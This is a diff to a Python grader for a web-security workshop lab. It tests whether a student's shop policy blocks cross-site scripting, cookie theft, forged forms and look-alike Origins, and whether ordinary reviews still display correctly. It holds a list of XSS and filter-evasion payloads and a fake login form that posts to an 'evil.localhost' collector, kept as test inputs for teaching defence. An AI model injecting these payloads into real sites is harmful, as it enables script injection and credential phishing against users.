@@ -1,20 +1,59 @@
 """Judge lab 6: what a foreign text and a foreign form can do, and what customers still can."""
 
+from html.parser import HTMLParser
 from pathlib import Path
 
+from workshop.attacks.look_alikes import origins
 from workshop.runner.loading import module_from
 from workshop.runner.verdict import Verdict, cost_us
+from workshop.shop.jar import Jar
 
 attack = module_from(Path(__file__).with_name("attack.py"))
+HOST = "shop.localhost:8400"
 LOGIN_FORM = (
     '<form action="http://evil.localhost/collect">Please log in again <input name="c"></form>'
 )
+HARMLESS = {"b", "br", "code", "em", "i", "p", "strong"}
+"""What a review may be made of at most, without attributes."""
+MARKUP = (
+    "<script>alert(1)</script>",
+    "<ScRiPt >alert(1)</sCrIpT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<svg/onload=alert(1)>",
+    "<img src=x onerror=alert(1) ",
+    "<a href=' javascript:alert(1)'>prize</a>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<style>body{display:none}</style>",
+    "<meta http-equiv=refresh content='0;url=http://evil.localhost/'>",
+    "<base href=http://evil.localhost/>",
+    "<b onmouseover=alert(1)>tea</b>",
+    LOGIN_FORM,
+)
+TEXTS = ("5 < 6 & tea", 'if a<b then b>a, and that\'s "it"', "Tee für 2 €, schön", "I <3 this shop")
+
+
+class Rendered(HTMLParser):
+    """A piece of HTML as a browser shows it: its text, and what else is in it."""
+
+    def __init__(self, markup):
+        super().__init__()
+        self.text, self.foreign = "", []
+        self.feed(f"<li>{markup}</li>")
+        self.close()
+
+    def handle_starttag(self, tag, attrs):
+        if tag != "li" and (tag not in HARMLESS or attrs):
+            self.foreign.append(tag)
+
+    def handle_data(self, data):
+        self.text += data
 
 
 def check(policy, seed):
-    """Theft, riding, false forms, forged forms; then reviews, links and programs."""
+    """Theft, riding, false forms, the second wall, forged forms; then reviews, links, programs."""
     verdict = Verdict()
     _scripts(verdict, policy)
+    _walls(verdict, policy)
     _forms(verdict, policy)
     _users(verdict, policy)
     verdict.cost(
@@ -46,12 +85,33 @@ def _scripts(verdict, policy):
         else "An image's onerror ordered 99 teas: there are scripts without a script tag.",
         "The browser adds the cookie for any script on the page: foreign text must not be one.",
     )
-    shown = policy.show_review(LOGIN_FORM)
+    drawn = [tag for text in MARKUP for tag in Rendered(policy.show_review(text)).foreign]
     verdict.attack(
         "a false login form",
-        "<form" not in shown.lower(),
-        "No script runs, but a review drew a login form on the shop's page that posts to Mallory.",
+        not drawn,
+        "No script runs, but a review drew a login form on the shop's page that posts to Mallory."
+        if "form" in drawn
+        else f"A review put <{drawn[0] if drawn else ''}> into the shop's page.",
         "A policy is the second wall: turn <, >, &, and quotes into text first.",
+    )
+
+
+def _walls(verdict, policy):
+    """The second wall, each by itself: a script that is on the page already, say from a library."""
+    jar = Jar()
+    jar.keep(policy.set_cookie("s3cret"), "shop.localhost")
+    verdict.attack(
+        "a script that is there already",
+        "s3cret" not in jar.document_cookie("shop.localhost"),
+        "A script on the page, whoever put it there, reads the cookie with document.cookie.",
+        "One attribute hides a cookie from scripts: HttpOnly.",
+    )
+    verdict.attack(
+        "the second wall",
+        not attack.may_run(policy.content_policy()),
+        "If one text is ever shown unescaped, its script runs: the page's policy lets it.",
+        "A Content-Security-Policy without 'unsafe-inline' and with your own sources alone: "
+        "default-src 'none', or 'self'.",
     )
 
 
@@ -69,13 +129,27 @@ def _forms(verdict, policy):
         "Let only your own origin change things: look at Sec-Fetch-Site, or at Origin.",
     )
 
+    believed = [
+        origin
+        for origin in origins(HOST)
+        if policy.may_change("POST", {"Origin": origin, "Host": HOST}, HOST)
+    ]
+    verdict.attack(
+        "an Origin that looks alike",
+        not believed,
+        f"A browser without Sec-Fetch-Site posted from {believed[0] if believed else ''}, and "
+        f"the shop, which is {HOST}, believed that it was its own page.",
+        'Compare the whole of the Origin: f"http://{host}", and no beginning, end or part of it.',
+    )
+
 
 def _users(verdict, policy):
-    shown = policy.show_review("5 < 6 & tea")
+    shown = {text: Rendered(policy.show_review(text)).text for text in TEXTS}
+    wrong = next((text for text in TEXTS if shown[text].strip() != text), "")
     verdict.users(
         "an ordinary review",
-        "5 &lt; 6 &amp; tea" in shown,
-        f"A customer wrote 5 < 6 & tea, and the page shows something else: {shown}",
+        not wrong,
+        f"A customer wrote {wrong}, and the page shows something else: {shown.get(wrong, '')}",
         "Escape the text, do not cut things out of it.",
     )
     with attack.open_shop(policy) as shop:
@@ -95,6 +169,13 @@ def _users(verdict, policy):
             "Alice followed a link from her mail, and the shop did not know her.",
             "A GET changes nothing, so it may come from elsewhere: Lax, not Strict.",
         )
+    own = {"Origin": f"http://{HOST}", "Host": HOST}
+    verdict.users(
+        "an older browser on the shop's own page",
+        bool(policy.may_change("POST", own, HOST)),
+        f"Alice's browser sends no Sec-Fetch-Site, and her order from http://{HOST} is refused.",
+        "An Origin that is the shop's own is fine: it has the port as well, as host has.",
+    )
     verdict.users(
         "a program",
         bool(policy.may_change("POST", {}, "shop.localhost")),
